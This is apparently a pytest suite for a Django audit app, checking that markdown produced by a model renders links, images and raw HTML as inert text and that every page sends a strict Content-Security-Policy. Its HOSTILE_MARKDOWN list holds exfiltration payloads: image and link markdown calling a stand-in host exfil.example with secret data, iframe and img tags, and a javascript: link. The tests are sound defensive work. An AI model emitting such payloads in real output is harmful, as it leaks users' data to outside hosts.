"""Model output cannot reach out: links and images are shown as text, and every response sends a strict CSP."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from audit_app.models import Team
from audit_app.templatetags.glassbox import markdown
from tests.factories import FinishedJobFactory
from tests.people import make_user
from tests.service.test_web import client_for

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_MARKDOWN = [
    ("![x](https://exfil.example/?d=SECRET)", "[image: x — https://exfil.example/?d=SECRET]"),
    ("![ref][r]\n\n[r]: https://exfil.example/ref.png", "[image: ref — https://exfil.example/ref.png]"),
    ("![e](https&#58;//exfil.example/entity)", "[image: e — https://exfil.example/entity]"),
    ("![d](data:image/png;base64,iVBORw0KGgo=)", "[image: d — data:image/png;base64,iVBORw0KGgo=]"),
    ("![s](data:image/svg+xml;base64,PHN2Zy8+)", "![s](data:image/svg+xml;base64,PHN2Zy8+)"),
    ("<https://exfil.example/auto?d=SECRET>", "https://exfil.example/auto?d=SECRET"),
    ("[statute](https://exfil.example/law?d=SECRET)", "(https://exfil.example/law?d=SECRET)"),
    ("[![i](https://exfil.example/i)](https://exfil.example/l)", "[image: i — https://exfil.example/i]"),
    ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("<img src=https://exfil.example/raw.png>", "&lt;img src=https://exfil.example/raw.png&gt;"),
    ("&lt;img src=https://exfil.example/e.png&gt;", "&lt;img src=https://exfil.example/e.png&gt;"),
    ('<iframe src="https://exfil.example/f"></iframe>', "&lt;iframe"),
    ("<svg><image href=https://exfil.example/s /></svg>", "&lt;svg&gt;"),
]


@pytest.mark.parametrize(("text", "shown"), HOSTILE_MARKDOWN)
def test_markdown_from_the_model_shows_links_and_images_as_text(text: str, shown: str):
    html = str(markdown(text))
    assert shown in html
    elements = parsed_elements(html)
    assert {tag for tag, _ in elements} <= {"p", "span"}
    assert {name for _, attributes in elements for name in attributes} <= {"class"}  # no src, href, style, on*


def parsed_elements(html: str) -> list[tuple[str, list[str]]]:
    """Every element the browser would build from ``html``, with its attribute names."""
    elements: list[tuple[str, list[str]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            elements.append((tag, [name for name, _ in attrs]))

    Collector().feed(html)
    return elements


def test_markdown_keeps_its_structure():
    html = str(markdown("# Yes\n\n**bold** and `code`\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n3. three"))
    for part in ("<h1>Yes</h1>", "<strong>bold</strong>", "<code>code</code>", "<td>1</td>", '<ol start="3">'):
        assert part in html


def test_job_page_shows_a_remote_image_as_text(analyst: User, team: Team):
    job = FinishedJobFactory(submitter=analyst, team=team, answer="See ![chart](https://exfil.example/c.png?d=SECRET)")
    page = client_for(analyst).get(reverse("job-detail", args=[job.pk])).content.decode()
    answer = page.split('class="answer" dir="auto">')[1].split("</div>")[0]
    assert "[image: chart — https://exfil.example/c.png?d=SECRET]" in answer
    assert "<img" not in page


def csp_directives(header: str) -> dict[str, str]:
    return {part.split()[0]: " ".join(part.split()[1:]) for part in header.split(";") if part.strip()}


@pytest.mark.parametrize(
    ("role", "url"),
    [
        (None, "/login/"),
        (None, "/no-such-page/"),
        (None, "/static/glassbox/htmx.min.js"),
        ("analyst", "/"),
        ("analyst", "/jobs/new/"),
        ("analyst", "job-detail"),
        ("analyst", "job-live"),
        ("auditor", "/auditor/ledger/"),
        ("operator", "/operator/kill-switch/"),
        ("analyst", "/operator/kill-switch/"),  # 403 pages too
    ],
)
def test_every_response_sends_a_strict_content_security_policy(role: str | None, url: str, analyst: User, team: Team):
    if url in ("job-detail", "job-live"):
        url = reverse(url, args=[FinishedJobFactory(submitter=analyst, team=team, answer="Done.").pk])
    client = Client() if role is None else client_for(analyst if role == "analyst" else make_user(role, role, None))
    response = client.get(url)
    policy = csp_directives(response["Content-Security-Policy"])
    assert policy["default-src"] == "'self'"
    assert policy["script-src"] == "'self'"
    assert policy["style-src"] == "'self'"
    assert policy["img-src"] == "'self'"
    assert (policy["frame-ancestors"], policy["base-uri"], policy["object-src"]) == ("'none'", "'none'", "'none'")
    assert policy["form-action"] == "'self'"
    assert "unsafe" not in response["Content-Security-Policy"]
    assert response["X-DNS-Prefetch-Control"] == "off"


def test_templates_hold_no_inline_script_style_or_event_handler():
    inline = re.compile(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=", re.IGNORECASE)
    offenders = [
        f"{path.relative_to(ROOT)}: {match.group()}"
        for path in (ROOT / "templates").rglob("*.html")
        for match in inline.finditer(
            re.sub(r"{#.*?#}|{% comment %}.*?{% endcomment %}", "", path.read_text(), flags=re.DOTALL)
        )
    ]
    assert offenders == []


def test_htmx_is_told_not_to_inject_its_indicator_style():
    page = Client().get("/login/").content.decode()
    assert '"includeIndicatorStyles": false' in page
    assert '"allowEval": false' in page


def test_a_refused_form_gets_a_page_the_policy_allows(analyst: User):
    response = Client(enforce_csrf_checks=True).post("/login/", {"username": "alice", "password": "pw-alice"})
    assert response.status_code == 403
    page = response.content.decode()
    assert "security token was missing or out of date" in page
    assert "<style" not in page
